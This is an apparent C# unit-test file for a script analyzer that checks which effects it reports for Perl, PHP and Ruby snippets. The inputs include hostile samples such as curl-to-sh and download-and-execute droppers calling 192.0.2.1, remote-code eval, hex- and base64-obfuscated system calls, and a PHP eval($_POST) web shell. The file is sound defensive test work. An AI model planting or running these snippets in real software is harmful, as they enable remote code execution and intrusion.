using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class OtherScriptTests
{
    [Theory]
    [InlineData("perl", "system(\"curl http://192.0.2.1/a | sh\");", "Interpret sh = curl http://192.0.2.1/a | sh")]
    [InlineData("perl", "my $h = '192.0.2.1'; system \"wget $h/x\";", "Interpret sh = wget 192.0.2.1/x")]
    [InlineData("perl", "my $o = `id`;", "Interpret sh = id")]
    [InlineData("perl", "my $o = qx{id};", "Interpret sh = id")]
    [InlineData("perl", "eval(pack('H*', '73797374656d2822696422293b'));", "Interpret perl = system(\"id\"); [hex]")]
    [InlineData("perl", "use LWP::Simple; getstore('http://192.0.2.1/x', '/tmp/x'); chmod 0755, '/tmp/x'; system('/tmp/x');", "Download http://192.0.2.1/x > /tmp/x", "MakeExecutable /tmp/x from http://192.0.2.1/x", "Execute /tmp/x from http://192.0.2.1/x")]
    [InlineData("perl", "use LWP::Simple; eval get('http://192.0.2.1/x');", "Download http://192.0.2.1/x", "Interpret perl from http://192.0.2.1/x")]
    [InlineData("perl", "print \"hello\\n\"; my %h = (a => 1); foreach my $k (keys %h) { print $k; }")]
    [InlineData("php", "<?php system('id'); ?>", "Interpret sh = id")]
    [InlineData("php", "<?php $f = 'sys' . 'tem'; $f('id');", "Interpret sh = id")]
    [InlineData("php", "<?php @eval($_POST['x']);", "Interpret php from $_POST")]
    [InlineData("php", "<html><?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?></html>", "Interpret php = system('id'); [base64]")]
    [InlineData("php", "<?php eval(file_get_contents('http://192.0.2.1/p'));", "Download http://192.0.2.1/p", "Interpret php from http://192.0.2.1/p")]
    [InlineData("php", "<?php file_put_contents('/tmp/a', file_get_contents('http://192.0.2.1/p'));", "Download http://192.0.2.1/p", "Write /tmp/a from http://192.0.2.1/p")]
    [InlineData("php", "<?php foreach ($items as $item) { echo htmlspecialchars($item->name) . \"<br>\"; }")]
    [InlineData("ruby", "system('id')", "Interpret sh = id")]
    [InlineData("ruby", "system \"curl #{'192.0.2.1'}/x\"", "Interpret sh = curl 192.0.2.1/x")]
    [InlineData("ruby", "x = `id`", "Interpret sh = id")]
    [InlineData("ruby", "%x(id)", "Interpret sh = id")]
    [InlineData("ruby", "require 'open-uri'\neval(URI.open('http://192.0.2.1/r').read)", "Download http://192.0.2.1/r", "Interpret ruby from http://192.0.2.1/r")]
    [InlineData("ruby", "require 'base64'\neval(Base64.decode64('c3lzdGVtKCJpZCIp'))", "Interpret ruby = system(\"id\") [base64]")]
    [InlineData("ruby", "eval(['73797374656d2822696422293b'].pack('H*'))", "Interpret ruby = system(\"id\"); [hex]")]
    [InlineData("ruby", "class A\n  def run(x)\n    x.each do |y|\n      puts \"#{y}\"\n    end\n  end\nend\n")]
    public void Other_languages_have_the_same_effects(string language, string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines(language, code));
}
